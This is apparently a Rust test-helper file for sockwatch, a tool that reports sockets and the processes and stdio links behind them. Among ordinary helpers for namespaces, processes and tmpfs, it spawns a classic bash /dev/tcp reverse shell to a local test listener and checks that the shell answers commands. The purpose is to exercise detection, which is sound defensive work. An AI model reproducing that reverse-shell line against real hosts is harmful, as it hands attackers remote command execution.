//! Shared test helpers: root and tool prerequisites, network namespaces made by the test, child
//! processes stopped by pid, and running the real `sockwatch` binary.

use serde::Deserialize;
use sockwatch::model::{Fd, Process, Snapshot, Socket, StdioEnd, StdioLink, StdioReach};
use std::io::{BufRead, BufReader};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};

/// Panics in CI, where a missing prerequisite must fail loudly; elsewhere says why and skips.
pub fn prerequisites(tools: &[&str]) -> bool {
    let mut missing: Vec<String> = tools
        .iter()
        .filter(|t| {
            !Command::new("sh")
                .args(["-c", &format!("command -v {t}")])
                .stdout(Stdio::null())
                .status()
                .is_ok_and(|s| s.success())
        })
        .map(|t| t.to_string())
        .collect();
    if !rustix::process::geteuid().is_root() {
        missing.push("root".into());
    }
    if missing.is_empty() {
        return true;
    }
    let message = format!("missing prerequisites: {} (run ./dev/test as root)", missing.join(", "));
    if std::env::var_os("CI").is_some() {
        panic!("{message}");
    }
    eprintln!("SKIPPED: {message}");
    false
}

/// Whether a tool ./dev/test unpacks into target/test-tools is there; in CI its absence fails
/// the test, elsewhere it skips it, saying so.
pub fn unpacked_tool(path: &str) -> bool {
    if std::path::Path::new(path).exists() {
        return true;
    }
    let message = format!("missing prerequisite: {path} (./dev/test unpacks it)");
    assert!(std::env::var_os("CI").is_none(), "{message}");
    eprintln!("SKIPPED: {message}");
    false
}

/// A network namespace created with `ip netns add`, deleted on drop, loopback up.
pub struct Netns {
    pub name: String,
}

impl Netns {
    pub fn new() -> Self {
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let name =
            format!("swtest-{}-{}", std::process::id(), NEXT.fetch_add(1, Ordering::Relaxed));
        run(Command::new("ip").args(["netns", "add", &name]));
        run(Command::new("ip").args(["-n", &name, "link", "set", "lo", "up"]));
        Netns { name }
    }

    /// The agent's own (host) namespace: commands run directly, nothing is created or deleted.
    pub fn host() -> Self {
        Netns { name: String::new() }
    }

    /// The namespace's inode.
    pub fn inode(&self) -> u64 {
        std::os::unix::fs::MetadataExt::ino(
            &std::fs::metadata(format!("/run/netns/{}", self.name)).expect("netns file"),
        )
    }

    /// A command that runs inside the namespace.
    pub fn command(&self, program: &str) -> Command {
        if self.name.is_empty() {
            return Command::new(program);
        }
        let mut command = Command::new("ip");
        command.args(["netns", "exec", &self.name, program]);
        command
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        if self.name.is_empty() {
            return;
        }
        let _ = Command::new("ip").args(["netns", "delete", &self.name]).status();
    }
}

/// Runs a command that must succeed.
pub fn run(command: &mut Command) -> String {
    let output = command.output().expect("spawn");
    assert!(
        output.status.success(),
        "{command:?} failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// A child process killed (by its pid) when dropped, with its stdin kept open until then.
pub struct Running {
    pub child: Child,
    stdin: Option<ChildStdin>,
}

impl Running {
    /// Spawns with piped stdin/stdout and reads one line of stdout.
    pub fn spawn_with_line(mut command: Command) -> (Self, String) {
        let mut child =
            command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("spawn");
        let stdin = child.stdin.take();
        let mut line = String::new();
        BufReader::new(child.stdout.take().expect("stdout"))
            .read_line(&mut line)
            .expect("read line");
        (Running { child, stdin }, line)
    }

    pub fn spawn(mut command: Command) -> Self {
        let child = command.stdin(Stdio::null()).spawn().expect("spawn");
        Running { child, stdin: None }
    }

    /// Writes one line to the child's stdin.
    pub fn write_line(&mut self, line: &str) {
        use std::io::Write;
        let stdin = self.stdin.as_mut().expect("stdin");
        writeln!(stdin, "{line}").expect("write to child");
        stdin.flush().expect("flush");
    }

    pub fn pid(&self) -> i32 {
        self.child.id() as i32
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        // Closing stdin asks a fixture to clean up its children; give it a moment, then kill.
        if self.stdin.take().is_some() {
            for _ in 0..50 {
                if self.child.try_wait().is_ok_and(|s| s.is_some()) {
                    return;
                }
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
        }
        let _ = rustix::process::kill_process(
            rustix::process::Pid::from_raw(self.pid()).expect("pid"),
            rustix::process::Signal::KILL,
        );
        let _ = self.child.wait();
    }
}

/// The snapshot document printed by `sockwatch scan --format json`.
#[derive(Deserialize)]
pub struct Document {
    pub format: String,
    pub snapshot: Snapshot,
    pub derived: Derived,
}

#[derive(Deserialize)]
pub struct Derived {
    pub directions: Vec<SocketDirection>,
    pub stdio: Vec<StdioEnd>,
    pub reaches: Vec<StdioReach>,
}

#[derive(Deserialize)]
pub struct SocketDirection {
    pub netns: u64,
    pub inode: u64,
    pub direction: sockwatch::model::Direction,
    pub source: sockwatch::model::DirectionSource,
}

/// Runs the real binary and returns its stdout.
pub fn sockwatch(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_sockwatch")).args(args).output().expect("run sockwatch")
}

/// `sockwatch scan --format json`, parsed.
pub fn scan_document() -> Document {
    let output = sockwatch(&["scan", "--format", "json"]);
    assert!(output.status.success(), "scan failed: {}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).expect("snapshot JSON")
}

impl Document {
    pub fn process(&self, pid: i32) -> &Process {
        self.snapshot
            .processes
            .iter()
            .find(|p| p.key.pid == pid)
            .unwrap_or_else(|| panic!("pid {pid} not in snapshot"))
    }

    pub fn socket(&self, inode: u64) -> &Socket {
        self.snapshot
            .sockets
            .iter()
            .find(|s| s.key.inode == inode)
            .unwrap_or_else(|| panic!("socket {inode} not in snapshot"))
    }

    pub fn fd(&self, pid: i32, num: i32) -> &Fd {
        self.snapshot
            .fds
            .iter()
            .find(|f| f.proc.pid == pid && f.num == num && f.tid.is_none())
            .unwrap_or_else(|| panic!("fd {pid}/{num} not in snapshot"))
    }

    pub fn direction(&self, inode: u64) -> sockwatch::model::Direction {
        self.derived.directions.iter().find(|d| d.inode == inode).expect("direction").direction
    }

    /// Every stdio link, expanded from the shared reaches.
    pub fn stdio_links(&self) -> Vec<StdioLink> {
        let mut links = Vec::new();
        for end in &self.derived.stdio {
            let mut push = |relays: &[sockwatch::model::ProcKey], socket| {
                let (proc, fd, via) = (end.proc, end.fd, end.via);
                links.push(StdioLink { proc, fd, via, relays: relays.to_vec(), socket });
            };
            match (end.socket, end.reach) {
                (Some(socket), _) => push(&[], socket),
                (None, Some(i)) => {
                    for route in &self.derived.reaches[i].routes {
                        push(&route.relays, route.socket);
                    }
                }
                (None, None) => panic!("stdio end with neither socket nor reach: {end:?}"),
            }
        }
        links
    }

    /// Whether the walk from this process's fd was truncated.
    pub fn truncated(&self, pid: i32, fd: i32) -> bool {
        self.derived.stdio.iter().any(|e| {
            e.proc.pid == pid
                && e.fd == fd
                && e.reach.is_some_and(|i| self.derived.reaches[i].truncated)
        })
    }

    /// (pid, fd) holders of a socket.
    pub fn holders(&self, inode: u64) -> Vec<(i32, i32)> {
        self.socket(inode).holders.iter().map(|h| (h.proc.pid, h.fd)).collect()
    }
}

/// Runs inline Python inside `netns`; it prints one JSON line of facts, then waits for stdin.
pub fn python_in(netns: &Netns, program: &str) -> (Running, serde_json::Value) {
    let mut command = netns.command("python3");
    command.args(["-c", program]);
    let (running, line) = Running::spawn_with_line(command);
    (running, serde_json::from_str(&line).unwrap_or_else(|e| panic!("{e}: {line:?}")))
}

pub const PRELUDE: &str = r#"
import ctypes, json, os, signal, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def die_with_parent():
    libc.prctl(1, signal.SIGKILL)
"#;

/// A directory under the temp dir, removed on drop.
pub struct ScratchDir {
    pub path: std::path::PathBuf,
}

impl ScratchDir {
    pub fn new(tag: &str) -> Self {
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let n = NEXT.fetch_add(1, Ordering::Relaxed);
        let path = std::env::temp_dir().join(format!("sockwatch-{tag}-{}-{n}", std::process::id()));
        std::fs::create_dir_all(&path).expect("scratch dir");
        ScratchDir { path }
    }
}

impl Drop for ScratchDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.path);
    }
}

/// A child killed (by its pid) and reaped when dropped, so a failing test leaves no agent behind.
pub struct KillOnDrop(pub Option<std::process::Child>);

impl KillOnDrop {
    pub fn new(child: std::process::Child) -> Self {
        KillOnDrop(Some(child))
    }

    pub fn child(&mut self) -> &mut std::process::Child {
        self.0.as_mut().expect("child still owned")
    }

    /// Hands the child over (for `wait_with_output`); the caller reaps it.
    pub fn take(mut self) -> std::process::Child {
        self.0.take().expect("child still owned")
    }
}

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        if let Some(mut child) = self.0.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

/// Proves a shell on the far end of `peer` works: a command it must evaluate (`$((6*7))`) and
/// its answer, within 10 s.
pub fn prove_round_trip(peer: &mut std::net::TcpStream) {
    use std::io::{BufRead, Write};
    peer.set_read_timeout(Some(std::time::Duration::from_secs(10))).unwrap();
    peer.write_all(b"echo round-$((6*7))-trip\n").unwrap();
    let mut reader = std::io::BufReader::new(peer.try_clone().unwrap());
    let mut seen = String::new();
    while !seen.contains("round-42-trip") {
        let mut line = String::new();
        assert!(reader.read_line(&mut line).unwrap() > 0, "the shell answered: {seen:?}");
        seen.push_str(&line);
    }
}

/// `bash -i` with its stdio on a TCP connection to a listener of the test's (the classic
/// `/dev/tcp` reverse shell): the shell, the test's end of the connection, and the port.
pub fn bash_reverse_shell() -> (KillOnDrop, std::net::TcpStream, u16) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let shell = KillOnDrop::new(
        Command::new("bash")
            .args(["-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
            .stdin(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let (peer, _) = listener.accept().unwrap();
    (shell, peer, port)
}

/// A tmpfs mounted by the test (a small disk to fill, a directory to make read-only), unmounted
/// on drop.
pub struct Tmpfs {
    pub path: std::path::PathBuf,
}

impl Tmpfs {
    /// Mounts a tmpfs of `size` (e.g. "256k") at `path`, creating the directory.
    pub fn mount(path: &std::path::Path, size: &str) -> Tmpfs {
        std::fs::create_dir_all(path).unwrap();
        let status = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size},mode=0700"), "tmpfs"])
            .arg(path)
            .status()
            .expect("mount");
        assert!(status.success(), "mount tmpfs at {}", path.display());
        Tmpfs { path: path.to_path_buf() }
    }

    /// `mount -o remount,OPTION`: "ro" or "rw".
    pub fn remount(&self, option: &str) {
        let status = Command::new("mount")
            .args(["-o", &format!("remount,{option}")])
            .arg(&self.path)
            .status()
            .expect("mount");
        assert!(status.success(), "remount {option} {}", self.path.display());
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.path).status();
    }
}

/// A process of the test's listening on a loopback port in the host namespace, and the
/// listener's socket inode: something new for a running agent to report.
pub fn loopback_listener() -> (Running, u64) {
    let program = format!(
        "{PRELUDE}
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()
print(json.dumps({{'inode': os.fstat(l.fileno()).st_ino}}), flush=True)
sys.stdin.read()
"
    );
    let (running, facts) = python_in(&Netns::host(), &program);
    (running, facts["inode"].as_u64().expect("inode"))
}

/// Writes a credential as an administrator would: mode 0600 (the agent refuses one every user
/// can read).
pub fn write_secret(path: &std::path::Path, text: &str) {
    use std::io::Write;
    use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(path)
        .expect("secret file");
    file.set_permissions(std::fs::Permissions::from_mode(0o600)).unwrap();
    file.write_all(text.as_bytes()).unwrap();
}
